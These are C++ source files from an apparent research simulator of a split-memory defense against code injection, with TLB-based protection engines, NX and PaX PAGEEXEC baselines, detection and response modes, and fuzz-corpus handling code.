  // SMP: the PTE is about to be unrestricted and re-pointed for a TLB-load
  // window. Every remote core that may still cache the old translation
  // must drop it — and ack — BEFORE the window opens (invariant I7): a
  // stale remote entry would let another core see the window's transient
  // mapping. The active core's TLBs are deliberately untouched; the window
  // exists to fill them. No-op at cores=1.
  k.tlb_shootdown(p, pf.addr);

  if (instruction_miss) {
    pte.set_pfn(pair->code_frame);
    pte.unrestrict();
    pt.set(pf.addr, pte);
    ++k.stats().split_itlb_loads;
    SM_TRACE(k.trace_sink(), record(trace::EventKind::kSplitItlbLoad, pf.addr,
                                    pair->code_frame));
    if (itlb_method_ == ItlbLoadMethod::kRetCall) {
      // The abandoned SS4.2.4 experiment: fill the I-TLB by calling a ret
      // placed on the page — no single-step, but an i-cache coherency
      // penalty that makes it a net loss.
      k.mmu().fill_itlb_via_call(pf.addr);
      pte.restrict_supervisor();
      pt.set(pf.addr, pte);
      return FaultResolution::kRetry;
    }
    // While the PTE is unrestricted for the single-step window, a data
    // access BY the stepped instruction to this same page would hardware-
    // walk the momentarily user-accessible PTE and load the D-TLB with the
    // CODE frame — on a writable (mixed) page that lets a store reach
    // executed code, the exact channel split memory exists to close, and
    // it desynchronizes the data view for reads. Pre-load the D-TLB with
    // the data frame first so any same-page access during the window hits
    // the TLB and never walks. Read-only pages are exempt: both frames
    // hold identical bytes there, so the window is unobservable.
    if (const Vma* vma = p.as->find_vma(pf.addr);
        vma != nullptr && vma->writable()) {
      Pte dpte = pte;
      dpte.set_pfn(pair->data_frame);
      pt.set(pf.addr, dpte);
      ++k.stats().split_dtlb_loads;
      SM_TRACE(k.trace_sink(), record(trace::EventKind::kSplitDtlbLoad,
                                      pf.addr, pair->data_frame));
      k.mmu().fill_dtlb_via_walk(pf.addr);  // on a footnote-1 walk failure
                                            // the window simply stays open
      pt.set(pf.addr, pte);  // back to the code frame for the fetch walk
    }
    // Algorithm 1, lines 1-5: route the fetch to the code page and
    // single-step so the debug handler can re-restrict afterwards.
    regs.set_tf(true);
    retire_stale_pending(k, p, page_floor(pf.addr));
    p.pending_split_vaddr = page_floor(pf.addr);
    SM_TRACE(k.trace_sink(),
             record(trace::EventKind::kSingleStepOpen, page_floor(pf.addr)));
    return FaultResolution::kRetry;
  }

  // Algorithm 1, lines 6-11: route the access to the data page; the
  // "read_byte" page-table walk loads the data-TLB while the PTE is
  // momentarily unrestricted, then the PTE is restricted again.
  pte.set_pfn(pair->data_frame);
  pte.unrestrict();
  pt.set(pf.addr, pte);
  ++k.stats().split_dtlb_loads;
  SM_TRACE(k.trace_sink(), record(trace::EventKind::kSplitDtlbLoad, pf.addr,
                                  pair->data_frame));
  if (!k.mmu().fill_dtlb_via_walk(pf.addr)) {
    // Footnote 1: "occasionally, the pagetable walk does not successfully
    // load the data-TLB. In this case single stepping mode (like the
    // instruction-TLB load) must be used." Leave the PTE unrestricted and
    // let the restarted instruction's own access fill the D-TLB; the
    // debug interrupt re-restricts.
    ++k.stats().split_dtlb_fallbacks;
    SM_TRACE(k.trace_sink(),
             record(trace::EventKind::kSplitDtlbFallback, pf.addr));
    regs.set_tf(true);
    retire_stale_pending(k, p, page_floor(pf.addr));
    p.pending_split_vaddr = page_floor(pf.addr);
    SM_TRACE(k.trace_sink(),
             record(trace::EventKind::kSingleStepOpen, page_floor(pf.addr)));
    return FaultResolution::kRetry;
  }
  pte.restrict_supervisor();
  pt.set(pf.addr, pte);
  return FaultResolution::kRetry;
}

FaultResolution SplitMemoryEngine::on_tlb_miss(Kernel& k, Process& p,
                                               const arch::PageFaultInfo& pf) {
  // Software-managed TLBs (paper SS4.7): "the processor's TLBs could be
  // loaded directly" — one cheap trap installs the correct frame into the
  // correct TLB; no restriction dance, no single-stepping.
  const arch::Pte pte = p.as->pt().get(pf.addr);
  if (!pte.present()) return FaultResolution::kUnhandled;
  const u32 vpn = vpn_of(pf.addr);
  if (const SplitPair* pair = p.as->split_pair(vpn); pair && pte.split()) {
    if (pf.fetch) {
      k.mmu().insert_tlb_entry(/*instruction=*/true, vpn, pair->code_frame,
                               /*user=*/true, /*writable=*/false,
                               /*no_exec=*/false);
      ++k.stats().split_itlb_loads;
      SM_TRACE(k.trace_sink(), record(trace::EventKind::kSplitItlbLoad,
                                      pf.addr, pair->code_frame));
    } else {
      k.mmu().insert_tlb_entry(/*instruction=*/false, vpn, pair->data_frame,
                               /*user=*/true, pte.writable(),
                               /*no_exec=*/false);
      ++k.stats().split_dtlb_loads;
      SM_TRACE(k.trace_sink(), record(trace::EventKind::kSplitDtlbLoad,
                                      pf.addr, pair->data_frame));
    }
    return FaultResolution::kRetry;
  }
  return ProtectionEngine::on_tlb_miss(k, p, pf);
}

void SplitMemoryEngine::retire_stale_pending(Kernel& k, Process& p,
                                             u32 new_page) {
  if (!p.pending_split_vaddr || *p.pending_split_vaddr == new_page) return;
  SM_TRACE(k.trace_sink(), record(trace::EventKind::kSingleStepClose,
                                  *p.pending_split_vaddr));
  // The previously-stepped page's TLB entry (if the retry got far enough
  // to fill it) persists past this restriction — the persistence property
  // the whole design rests on — so the restarted instruction still
  // completes; only the PTE's window closes.
  PageTable pt = p.as->pt();
  Pte pte = pt.get(*p.pending_split_vaddr);
  if (pte.present() && pte.split()) {
    pte.restrict_supervisor();
    pt.set(*p.pending_split_vaddr, pte);
  }
  p.pending_split_vaddr.reset();
}

void SplitMemoryEngine::on_debug_step(Kernel& k, Process& p) {
  // Algorithm 2: the single-stepped instruction has completed and the
  // instruction-TLB is filled; restrict the PTE and clear the trap flag.
  if (!p.pending_split_vaddr) return;
  const u32 va = *p.pending_split_vaddr;
  PageTable pt = p.as->pt();
  Pte pte = pt.get(va);
  if (pte.present() && pte.split()) {
    pte.restrict_supervisor();
    pt.set(va, pte);
  }
  k.regs_of(p).set_tf(false);
  SM_TRACE(k.trace_sink(), record(trace::EventKind::kSingleStepClose, va));
  p.pending_split_vaddr.reset();
}

FaultResolution SplitMemoryEngine::on_invalid_opcode(Kernel& k, Process& p) {
  arch::Regs& regs = k.regs_of(p);
  const u32 pc = regs.pc;
  const u32 vpn = vpn_of(pc);
  const SplitPair* pair = p.as->split_pair(vpn);
  if (pair == nullptr) {
    return FaultResolution::kUnhandled;  // a genuine illegal instruction
  }
  // If the code and data views agree at EIP, the bad opcode is part of the
  // program's own bytes (a plain buggy binary), not injected code.
  {
    GuestMem gm = k.mem_of(p);
    u8 code_view[4] = {};
    u8 data_view[4] = {};
    if (gm.read(pc, code_view, View::kCode) &&
        gm.read(pc, data_view, View::kData) &&
        std::equal(std::begin(code_view), std::end(code_view),
                   std::begin(data_view))) {
      return FaultResolution::kUnhandled;
    }
  }

  // Detection: the processor tried to execute from a split page whose code
  // frame holds no real code — injected code is about to run (paper §4.5:
  // detected "right before executing the first injected instruction").
  ++k.stats().injections_detected;
  kernel::DetectionEvent ev;
  ev.pid = p.pid;
  ev.process = p.name;
  ev.eip = pc;
  ev.cycles = k.now();
  ev.mode = to_string(mode_);
  std::vector<u8> shellcode(kShellcodeDumpBytes);
  GuestMem gm = k.mem_of(p);
  if (gm.read(pc, shellcode, View::kData)) {
    ev.shellcode = shellcode;
    ev.disassembly = assembler::format(
        assembler::disassemble(shellcode, pc, /*max_instrs=*/8));
  }
  k.detections().push_back(ev);
  SM_TRACE(k.trace_sink(), record(trace::EventKind::kDetection, pc, p.pid));
  k.log("[DETECT] pid " + std::to_string(p.pid) + " (" + p.name +
        ") code injection at EIP " + hex(pc) + ", mode " + to_string(mode_));

  switch (mode_) {
    case ResponseMode::kBreak:
      kill_via_break(k, p, pc);
      return FaultResolution::kKilled;

    case ResponseMode::kObserve: {
      // Algorithm 3: log, lock the page onto the data frame, disable
      // splitting for it, invalidate the TLB entry and let the attack
      // continue under observation.
      PageTable pt = p.as->pt();
      Pte pte = pt.get(pc);
      pte.set_pfn(pair->data_frame);
      pte.unrestrict();
      pte.clear(Pte::kSplit);
      pt.set(pc, pte);
      p.as->unsplit(vpn, pair->data_frame);
      k.invalidate_page(p, pc);
      regs.set_tf(false);
      p.pending_split_vaddr.reset();
      SM_TRACE(k.trace_sink(), record(trace::EventKind::kObserveLockdown, pc,
                                      pair->data_frame));
      k.log("[observe] pid " + std::to_string(p.pid) +
            " attack allowed to continue from the data page");
      return FaultResolution::kRetry;
    }

    case ResponseMode::kForensics: {
      if (forensic_shellcode_.empty()) {
        kill_via_break(k, p, pc);
        return FaultResolution::kKilled;
      }
      // Copy forensic shellcode onto the empty code page being executed
      // from and point EIP at the start of the page (paper §5.5).
      const u32 page = page_floor(pc);
      GuestMem writer = k.mem_of(p);
      writer.write(page, forensic_shellcode_, View::kCode);
      regs.pc = page;
      k.log("[forensics] pid " + std::to_string(p.pid) +
            " forensic shellcode injected at " + hex(page));
      return FaultResolution::kRetry;
    }

    case ResponseMode::kRecovery: {
      if (!p.recovery_handler) {
        kill_via_break(k, p, pc);
        return FaultResolution::kKilled;
      }
      // Extension of paper §4.5: transfer to the call-back the application
      // registered so it can checkpoint/clean up and exit gracefully.
      regs.pc = *p.recovery_handler;
      regs.r[0] = pc;  // tell the handler where the attack fired
      k.log("[recovery] pid " + std::to_string(p.pid) +
            " transferring to recovery handler " +
            hex(*p.recovery_handler));
      return FaultResolution::kRetry;
    }
  }
  return FaultResolution::kUnhandled;
}

void SplitMemoryEngine::kill_via_break(Kernel& k, Process& p, u32 pc) {
  k.kill_process(p, ExitKind::kKilledSigill,
                 "code injection attempt halted at " + hex(pc) +
                     " (break mode)");
}

FaultResolution SplitMemoryEngine::handle_nx_fault(
    Kernel& k, Process& p, const arch::PageFaultInfo& pf) {
  if (!policy_.nx_for_unsplit || !pf.fetch) {
    return FaultResolution::kUnhandled;
  }
  const Pte pte = p.as->pt().get(pf.addr);
  if (!pte.no_exec()) return FaultResolution::kUnhandled;
  ++k.stats().injections_detected;
  kernel::DetectionEvent ev;
  ev.pid = p.pid;
  ev.process = p.name;
  ev.eip = pf.addr;
  ev.cycles = k.now();
  ev.mode = "nx";
  k.detections().push_back(ev);
  SM_TRACE(k.trace_sink(),
           record(trace::EventKind::kDetection, pf.addr, p.pid));
  k.kill_process(p, ExitKind::kKilledSigsegv,
                 "execute-disable violation at " + hex(pf.addr));
  return FaultResolution::kKilled;
}

void SplitMemoryEngine::on_mprotect(Kernel& k, Process& p, Vma& vma,
                                    u32 start, u32 end) {
  PageTable pt = p.as->pt();
  for (u32 va = start; va < end; va += kPageSize) {
    Pte pte = pt.get(va);
    if (!pte.present()) continue;
    if (vma.writable()) {
      pte.set(Pte::kWritable);
    } else {
      pte.clear(Pte::kWritable);
    }
    if (!pte.split() && policy_.nx_for_unsplit) {
      if (!vma.executable()) {
        pte.set(Pte::kNoExec);
      } else {
        pte.clear(Pte::kNoExec);
      }
    }
    pt.set(va, pte);
    k.invalidate_page(p, va);
  }
}

bool SplitMemoryEngine::degrade_lock_unsplit(Kernel& k, Process& p,
                                             u32 vaddr) {
  // The watchdog's last resort: the same lock path ResponseMode::kObserve
  // uses, minus the detection bookkeeping — give up splitting this page,
  // lock it onto its data frame (the frame whose bytes the guest's own
  // stores shaped), and keep the process running.
  const u32 page = page_floor(vaddr);
  const u32 vpn = vpn_of(page);
  const SplitPair* pair = p.as->split_pair(vpn);
  if (pair == nullptr) return false;
  PageTable pt = p.as->pt();
  Pte pte = pt.get(page);
  if (!pte.present()) return false;
  const u32 kept = pair->data_frame;
  pte.set_pfn(kept);
  pte.unrestrict();
  pte.clear(Pte::kSplit);
  pt.set(page, pte);
  p.as->unsplit(vpn, kept);
  k.invalidate_page(p, page);
  if (p.pending_split_vaddr && *p.pending_split_vaddr == page) {
    k.regs_of(p).set_tf(false);
    p.pending_split_vaddr.reset();
  }
  SM_TRACE(k.trace_sink(),
           record(trace::EventKind::kDegradeUnsplit, page, kept));
  k.log("[degrade] pid " + std::to_string(p.pid) + " page " + hex(page) +
        " locked unsplit after repeated invariant repairs");
  return true;
}

// ---------------------------------------------------------------------------
// Hardware execute-disable baseline
// ---------------------------------------------------------------------------

void HardwareNxEngine::materialize(Kernel& k, Process& p, const Vma& vma,
                                   u32 vaddr) {
  const u32 page = page_floor(vaddr);
  const u32 frame = k.alloc_initial_frame(p, vma, page);
  u32 flags = Pte::kPresent | Pte::kUser;
  if (vma.writable()) flags |= Pte::kWritable;
  if (!vma.executable()) {
    flags |= Pte::kNoExec;  // data pages are non-executable
  } else if (!vma.mixed()) {
    flags &= ~Pte::kWritable;  // code pages are read-only
  }
  // Mixed (writable AND executable) pages get neither protection: this is
  // exactly the layout the execute-disable bit cannot handle (paper §2).
  p.as->pt().set(page, Pte::make(frame, flags));
}

FaultResolution HardwareNxEngine::on_protection_fault(
    Kernel& k, Process& p, const arch::PageFaultInfo& pf) {
  if (!pf.fetch) return FaultResolution::kUnhandled;
  const Pte pte = p.as->pt().get(pf.addr);
  if (!pte.no_exec()) return FaultResolution::kUnhandled;
  ++k.stats().injections_detected;
  kernel::DetectionEvent ev;
  ev.pid = p.pid;
  ev.process = p.name;
  ev.eip = pf.addr;
  ev.cycles = k.now();
  ev.mode = "nx";
  k.detections().push_back(ev);
  SM_TRACE(k.trace_sink(),
           record(trace::EventKind::kDetection, pf.addr, p.pid));
  k.kill_process(p, ExitKind::kKilledSigsegv,
                 "DEP: instruction fetch from non-executable page at " +
                     hex(pf.addr));
  return FaultResolution::kKilled;
}

void HardwareNxEngine::on_mprotect(Kernel& k, Process& p, Vma& vma, u32 start,
                                   u32 end) {
  PageTable pt = p.as->pt();
  for (u32 va = start; va < end; va += kPageSize) {
    Pte pte = pt.get(va);
    if (!pte.present()) continue;
    if (vma.writable()) {
      pte.set(Pte::kWritable);
    } else {
      pte.clear(Pte::kWritable);
    }
    if (!vma.executable()) {
      pte.set(Pte::kNoExec);
    } else {
      pte.clear(Pte::kNoExec);
      if (!vma.mixed()) pte.clear(Pte::kWritable);
    }
    pt.set(va, pte);
    k.invalidate_page(p, va);
  }
}

// ---------------------------------------------------------------------------
// PaX PAGEEXEC: software-only execute-disable for legacy x86
// ---------------------------------------------------------------------------

void PaxPageexecEngine::materialize(Kernel& k, Process& p, const Vma& vma,
                                    u32 vaddr) {
  const u32 page = page_floor(vaddr);
  const u32 frame = k.alloc_initial_frame(p, vma, page);
  u32 flags = Pte::kPresent;
  if (vma.writable()) flags |= Pte::kWritable;
  if (vma.executable() || vma.mixed()) {
    // Executable (and unprotectable mixed) pages stay user-accessible;
    // pure code pages are kept read-only.
    flags |= Pte::kUser;
    if (!vma.mixed()) flags &= ~Pte::kWritable;
  } else {
    // Non-executable page: supervisor-restricted + the NX software mark.
    // Every D-TLB miss will fault into the PAGEEXEC load below; any fetch
    // is an execution attempt.
    flags |= Pte::kNoExec;
  }
  p.as->pt().set(page, Pte::make(frame, flags));
}

FaultResolution PaxPageexecEngine::on_protection_fault(
    Kernel& k, Process& p, const arch::PageFaultInfo& pf) {
  PageTable pt = p.as->pt();
  Pte pte = pt.get(pf.addr);
  if (!pte.present() || pte.user() || !pte.no_exec()) {
    return FaultResolution::kUnhandled;
  }
  arch::Regs& regs = k.regs_of(p);
  if (pf.fetch || pf.addr == regs.pc) {
    // Execution attempt on a non-executable page: DEP-style kill.
    ++k.stats().injections_detected;
    kernel::DetectionEvent ev;
    ev.pid = p.pid;
    ev.process = p.name;
    ev.eip = pf.addr;
    ev.cycles = k.now();
    ev.mode = "pageexec";
    k.detections().push_back(ev);
    SM_TRACE(k.trace_sink(),
             record(trace::EventKind::kDetection, pf.addr, p.pid));
    k.kill_process(p, kernel::ExitKind::kKilledSigsegv,
                   "PAGEEXEC: execution attempt at " + hex(pf.addr));
    return FaultResolution::kKilled;
  }
  // Data access: the PAGEEXEC D-TLB load (unrestrict, walk, restrict).
  pte.unrestrict();
  pt.set(pf.addr, pte);
  k.mmu().fill_dtlb_via_walk(pf.addr);
  pte.restrict_supervisor();
  pt.set(pf.addr, pte);
  ++k.stats().split_dtlb_loads;
  SM_TRACE(k.trace_sink(),
           record(trace::EventKind::kSplitDtlbLoad, pf.addr, pte.pfn()));
  return FaultResolution::kRetry;
}

FaultResolution PaxPageexecEngine::on_tlb_miss(Kernel& k, Process& p,
                                               const arch::PageFaultInfo& pf) {
  const Pte pte = p.as->pt().get(pf.addr);
  if (!pte.present()) return FaultResolution::kUnhandled;
  if (!pte.user() && pte.no_exec()) {
    if (pf.fetch) return FaultResolution::kUnhandled;  // kill via PF path
    k.mmu().insert_tlb_entry(/*instruction=*/false, vpn_of(pf.addr),
                             pte.pfn(), /*user=*/true, pte.writable(),
                             /*no_exec=*/false);
    ++k.stats().split_dtlb_loads;
    SM_TRACE(k.trace_sink(),
             record(trace::EventKind::kSplitDtlbLoad, pf.addr, pte.pfn()));
    return FaultResolution::kRetry;
  }
  return ProtectionEngine::on_tlb_miss(k, p, pf);
}

void PaxPageexecEngine::on_mprotect(Kernel& k, Process& p, Vma& vma,
                                    u32 start, u32 end) {
  PageTable pt = p.as->pt();
  for (u32 va = start; va < end; va += kPageSize) {
    Pte pte = pt.get(va);
    if (!pte.present()) continue;
    if (vma.writable()) {
      pte.set(Pte::kWritable);
    } else {
      pte.clear(Pte::kWritable);
    }
    if (vma.executable() || vma.mixed()) {
      pte.unrestrict();
      pte.clear(Pte::kNoExec);
      if (!vma.mixed() && vma.executable()) pte.clear(Pte::kWritable);
    } else {
      pte.restrict_supervisor();
      pte.set(Pte::kNoExec);
    }
    pt.set(va, pte);
    k.invalidate_page(p, va);
  }
}

// ---------------------------------------------------------------------------
// Factory & names
// ---------------------------------------------------------------------------

std::unique_ptr<kernel::ProtectionEngine> make_engine(ProtectionMode mode,
                                                      ResponseMode response) {
  switch (mode) {
    case ProtectionMode::kNone:
      return std::make_unique<kernel::NoProtectionEngine>();
    case ProtectionMode::kSplitAll:
      return std::make_unique<SplitMemoryEngine>(SplitPolicy::all(), response);
    case ProtectionMode::kHardwareNx:
      return std::make_unique<HardwareNxEngine>();
    case ProtectionMode::kPaxPageexec:
      return std::make_unique<PaxPageexecEngine>();
    case ProtectionMode::kNxPlusSplitMixed:
      return std::make_unique<SplitMemoryEngine>(SplitPolicy::mixed_only(),
                                                 response);
  }
  return nullptr;
}

const char* to_string(ProtectionMode mode) {
  switch (mode) {
    case ProtectionMode::kNone:
      return "none";
    case ProtectionMode::kSplitAll:
      return "split-all";
    case ProtectionMode::kHardwareNx:
      return "hardware-nx";
    case ProtectionMode::kPaxPageexec:
      return "pax-pageexec";
    case ProtectionMode::kNxPlusSplitMixed:
      return "nx+split-mixed";
  }
  return "?";
}

const char* to_string(ResponseMode mode) {
  switch (mode) {
    case ResponseMode::kBreak:
      return "break";
    case ResponseMode::kObserve:
      return "observe";
    case ResponseMode::kForensics:
      return "forensics";
    case ResponseMode::kRecovery:
      return "recovery";
  }
  return "?";
}

}  // namespace sm::core
