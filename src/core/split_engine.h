// The paper's contribution: a virtual Harvard architecture built by
// deliberately desynchronizing the split instruction/data TLBs (paper §4).
//
// Every protected virtual page is backed by a code frame and a data frame.
// The PTE is kept supervisor-restricted so *every* TLB miss page-faults into
// Algorithm 1:
//   - faulting address == EIP  → instruction-TLB miss: point the PTE at the
//     code frame, unrestrict, set the trap flag, restart the instruction;
//     the refetch walks the page tables and fills the I-TLB; the debug
//     interrupt (Algorithm 2) then re-restricts the PTE.
//   - otherwise                → data-TLB miss: point the PTE at the data
//     frame, unrestrict, "touch a byte" (a page-table walk that fills the
//     D-TLB), restrict again.
// Injected bytes therefore land in data frames and can never be fetched.
//
// When an execution attempt does reach a split page whose code frame holds
// no real code, the fetch decodes an invalid opcode and Algorithm 3 runs the
// configured response mode: break (kill), observe (lock the page onto the
// data frame and let the attack continue, honeypot-style), forensics (dump
// + optionally inject forensic shellcode), or recovery (transfer to an
// application-registered handler — the paper's §4.5 future-work mode).
#pragma once

#include <memory>
#include <vector>

#include "kernel/kernel.h"
#include "kernel/protection.h"

namespace sm::core {

using kernel::FaultResolution;
using kernel::Kernel;
using kernel::Process;
using kernel::Vma;
using arch::u32;
using arch::u8;

enum class ResponseMode { kBreak, kObserve, kForensics, kRecovery };

// Which pages get split (paper §4.2.1 "What to Split").
struct SplitPolicy {
  enum class Kind {
    kAll,        // stand-alone mode: every page of the process
    kMixedOnly,  // only writable+executable regions; the rest gets the
                 // hardware execute-disable bit (combined deployment)
    kFraction,   // a pseudo-random percentage of pages (paper Fig. 9)
  };
  Kind kind = Kind::kAll;
  u32 fraction_percent = 100;
  // Protect non-split pages with NX/W^X (true for kMixedOnly).
  bool nx_for_unsplit = false;
  // Varies which pages the kFraction hash picks (so sweeps can average
  // over several random page choices, as the paper's Fig. 9 runs do).
  u32 fraction_seed = 0;

  static SplitPolicy all() { return {}; }
  static SplitPolicy mixed_only() {
    return {Kind::kMixedOnly, 100, /*nx_for_unsplit=*/true, 0};
  }
  static SplitPolicy fraction(u32 percent, u32 seed = 0) {
    return {Kind::kFraction, percent, /*nx_for_unsplit=*/false, seed};
  }
};

// How the engine fills the instruction-TLB (paper SS4.2.4).
enum class ItlbLoadMethod {
  kSingleStep,  // the paper's shipped method: trap flag + debug interrupt
  kRetCall,     // the abandoned experiment: call a ret on the page; pays
                // an i-cache coherency flush and "actually decreased the
                // system's efficiency"
};

class SplitMemoryEngine : public kernel::ProtectionEngine {
 public:
  explicit SplitMemoryEngine(SplitPolicy policy = SplitPolicy::all(),
                             ResponseMode mode = ResponseMode::kBreak);

  std::string name() const override;

  void materialize(Kernel& k, Process& p, const Vma& vma, u32 vaddr) override;
  FaultResolution on_protection_fault(Kernel& k, Process& p,
                                      const arch::PageFaultInfo& pf) override;
  FaultResolution on_tlb_miss(Kernel& k, Process& p,
                              const arch::PageFaultInfo& pf) override;
  void on_debug_step(Kernel& k, Process& p) override;
  FaultResolution on_invalid_opcode(Kernel& k, Process& p) override;
  void on_mprotect(Kernel& k, Process& p, Vma& vma, u32 start,
                   u32 end) override;
  bool degrade_lock_unsplit(Kernel& k, Process& p, u32 vaddr) override;

  void set_itlb_load_method(ItlbLoadMethod m) { itlb_method_ = m; }
  ItlbLoadMethod itlb_load_method() const { return itlb_method_; }

  ResponseMode response_mode() const { return mode_; }
  void set_response_mode(ResponseMode mode) { mode_ = mode; }

  // Forensics mode: shellcode copied onto the (empty) code page and executed
  // in place of the attacker's payload (paper §5.5 injects exit(0)).
  void set_forensic_shellcode(std::vector<u8> code) {
    forensic_shellcode_ = std::move(code);
  }

  // Number of bytes of attacker shellcode recorded per detection (the
  // paper's Fig. 5c shows the first 20).
  static constexpr u32 kShellcodeDumpBytes = 20;

 private:
  bool should_split(const Vma& vma, u32 vpn) const;
  // If a single-step is pending for a DIFFERENT page, its debug trap never
  // fired (the stepped instruction itself faulted first — e.g. a fetch
  // straddling onto a second split page, or a footnote-1 fallback data
  // fault mid-step). Re-restrict that page before repointing the pending
  // slot, or its PTE stays user-accessible forever.
  void retire_stale_pending(Kernel& k, Process& p, u32 new_page);
  FaultResolution handle_nx_fault(Kernel& k, Process& p,
                                  const arch::PageFaultInfo& pf);
  void kill_via_break(Kernel& k, Process& p, u32 pc);

  SplitPolicy policy_;
  ResponseMode mode_;
  ItlbLoadMethod itlb_method_ = ItlbLoadMethod::kSingleStep;
  std::vector<u8> forensic_shellcode_;
};

// Baseline: the hardware execute-disable bit (Intel XD / DEP, paper §2).
// Data pages are NX, code pages read-only; mixed pages CANNOT be protected —
// the limitation that motivates the paper.
class HardwareNxEngine : public kernel::ProtectionEngine {
 public:
  std::string name() const override { return "hardware-nx"; }
  void materialize(Kernel& k, Process& p, const Vma& vma, u32 vaddr) override;
  FaultResolution on_protection_fault(Kernel& k, Process& p,
                                      const arch::PageFaultInfo& pf) override;
  void on_mprotect(Kernel& k, Process& p, Vma& vma, u32 start,
                   u32 end) override;
};

// PaX PAGEEXEC (paper ref [2], §2): the software-only execute-disable
// emulation for legacy x86. Non-executable pages are kept
// supervisor-restricted; every data access that misses the D-TLB faults
// and is serviced with the same unrestrict/walk/restrict dance the split
// engine uses (PAGEEXEC is where that D-TLB loading method comes from —
// "this loading method is also used in the PaX protection model", §4.2.3).
// Instruction fetches from a restricted page are execution attempts and
// kill the process. Mixed W+X pages cannot be protected, exactly like the
// hardware bit.
class PaxPageexecEngine : public kernel::ProtectionEngine {
 public:
  std::string name() const override { return "pax-pageexec"; }
  void materialize(Kernel& k, Process& p, const Vma& vma, u32 vaddr) override;
  FaultResolution on_protection_fault(Kernel& k, Process& p,
                                      const arch::PageFaultInfo& pf) override;
  FaultResolution on_tlb_miss(Kernel& k, Process& p,
                              const arch::PageFaultInfo& pf) override;
  void on_mprotect(Kernel& k, Process& p, Vma& vma, u32 start,
                   u32 end) override;
};

// Convenience factory covering every configuration the benches sweep.
enum class ProtectionMode {
  kNone,             // unprotected von Neumann baseline
  kSplitAll,         // the paper's stand-alone mode
  kHardwareNx,       // execute-disable bit only
  kPaxPageexec,      // software-only execute-disable (PaX PAGEEXEC [2])
  kNxPlusSplitMixed, // combined: NX everywhere + split for mixed pages
};

std::unique_ptr<kernel::ProtectionEngine> make_engine(
    ProtectionMode mode, ResponseMode response = ResponseMode::kBreak);

const char* to_string(ProtectionMode mode);
const char* to_string(ResponseMode mode);

}  // namespace sm::core
