#include "fuzz/corpus.h"

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace sm::fuzz {

namespace fs = std::filesystem;

std::string to_corpus_file(const FuzzCase& c) {
  char head[64];
  std::snprintf(head, sizeof head, ";!seed 0x%016llx\n",
                static_cast<unsigned long long>(c.seed));
  std::string out = head;
  if (c.mixed_text) out += ";!mixed_text\n";
  if (!c.faults.empty()) {
    if (c.faults.seed != 0) {
      std::snprintf(head, sizeof head, ";!fault-seed 0x%016llx\n",
                    static_cast<unsigned long long>(c.faults.seed));
      out += head;
    }
    out += c.faults.to_lines();
  }
  out += c.body;
  if (!out.empty() && out.back() != '\n') out += '\n';
  return out;
}

FuzzCase from_corpus_file(const std::string& text) {
  FuzzCase c;
  std::istringstream in(text);
  std::string line;
  std::string body;
  while (std::getline(in, line)) {
    if (line.rfind(";!seed", 0) == 0) {
      c.seed = std::strtoull(line.c_str() + 6, nullptr, 0);
      continue;
    }
    if (line.rfind(";!mixed_text", 0) == 0) {
      c.mixed_text = true;
      continue;
    }
    // ";!fault-seed" must be tested before the ";!fault " entry lines —
    // both share the ";!fault" prefix.
    if (line.rfind(";!fault-seed", 0) == 0) {
      c.faults.seed = std::strtoull(line.c_str() + 12, nullptr, 0);
      continue;
    }
    if (line.rfind(";!fault ", 0) == 0) {
      if (const auto f = inject::FaultSchedule::parse_line(line)) {
        c.faults.faults.push_back(*f);
      }
      continue;
    }
    body += line;
    body += '\n';
  }
  c.body = std::move(body);
  return c;
}

std::string save_case(const std::string& dir, const std::string& stem,
                      const FuzzCase& c) {
  std::error_code ec;
  fs::create_directories(dir, ec);
  const std::string path = (fs::path(dir) / (stem + ".sm")).string();
  std::ofstream out(path, std::ios::trunc);
  if (!out) return "";
  out << to_corpus_file(c);
  return out ? path : "";
}

std::vector<CorpusEntry> load_corpus(const std::string& dir) {
  std::vector<CorpusEntry> entries;
  std::error_code ec;
  for (const auto& de : fs::directory_iterator(dir, ec)) {
    if (!de.is_regular_file() || de.path().extension() != ".sm") continue;
    std::ifstream in(de.path());
    std::stringstream buf;
    buf << in.rdbuf();
    entries.push_back({de.path().filename().string(),
                       from_corpus_file(buf.str())});
  }
  std::ranges::sort(entries, {}, &CorpusEntry::name);
  return entries;
}

}  // namespace sm::fuzz
