// On-disk corpus of fuzz cases (.sm files).
//
// Format: assembly body prefixed by directive comments the assembler
// ignores but the replayer reads:
//
//   ;!seed 0x1234abcd          ; provenance (informational on replay)
//   ;!mixed_text               ; build the image with a writable text VMA
//   ;!fault-seed 0xabcd        ; fault-schedule provenance (informational)
//   ;!fault 120 dropped-flush 7  ; one scheduled fault (robustness clause)
//   _start:
//     ...
//
// tests/fuzz/corpus/ holds checked-in seed cases replayed by ctest
// (fuzz_corpus target); `fuzz_driver --save DIR` appends shrunk
// reproducers in the same format, so a divergence found in a campaign
// becomes a regression case by copying one file.
#pragma once

#include <string>
#include <vector>

#include "fuzz/generator.h"

namespace sm::fuzz {

std::string to_corpus_file(const FuzzCase& c);
FuzzCase from_corpus_file(const std::string& text);

// Writes `<dir>/<stem>.sm`; returns the path ("" on I/O failure).
std::string save_case(const std::string& dir, const std::string& stem,
                      const FuzzCase& c);

// Loads every *.sm under dir, sorted by filename so replay order (and
// therefore driver output) is deterministic. Missing/empty dir -> empty.
struct CorpusEntry {
  std::string name;  // filename without directory
  FuzzCase c;
};
std::vector<CorpusEntry> load_corpus(const std::string& dir);

}  // namespace sm::fuzz
