#include "fuzz/generator.h"

#include <sstream>

#include "fuzz/rng.h"

namespace sm::fuzz {

using arch::Op;

namespace {

std::string hex(u32 v) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "0x%x", v);
  return buf;
}

// The emitted program keeps its checksum in r5 (the one register no
// syscall clobbers and no action may use as scratch); actions fold their
// observable results into it so a divergence anywhere surfaces in the
// exit code even if memory/trace comparison were ever weakened.
constexpr const char* kSum = "r5";

const char* alu_mnemonic(Op op) {
  switch (op) {
    case Op::kAdd: return "add";
    case Op::kSub: return "sub";
    case Op::kMul: return "mul";
    case Op::kDiv: return "div";
    case Op::kAnd: return "and";
    case Op::kOr: return "or";
    case Op::kXor: return "xor";
    case Op::kShl: return "shl";
    case Op::kShr: return "shr";
    case Op::kModu: return "modu";
    case Op::kCmp: return "cmp";
    case Op::kMov: return "mov";
    default: return "add";
  }
}

const char* jcc_mnemonic(Op op) {
  switch (op) {
    case Op::kJz: return "jz";
    case Op::kJnz: return "jnz";
    case Op::kJlt: return "jlt";
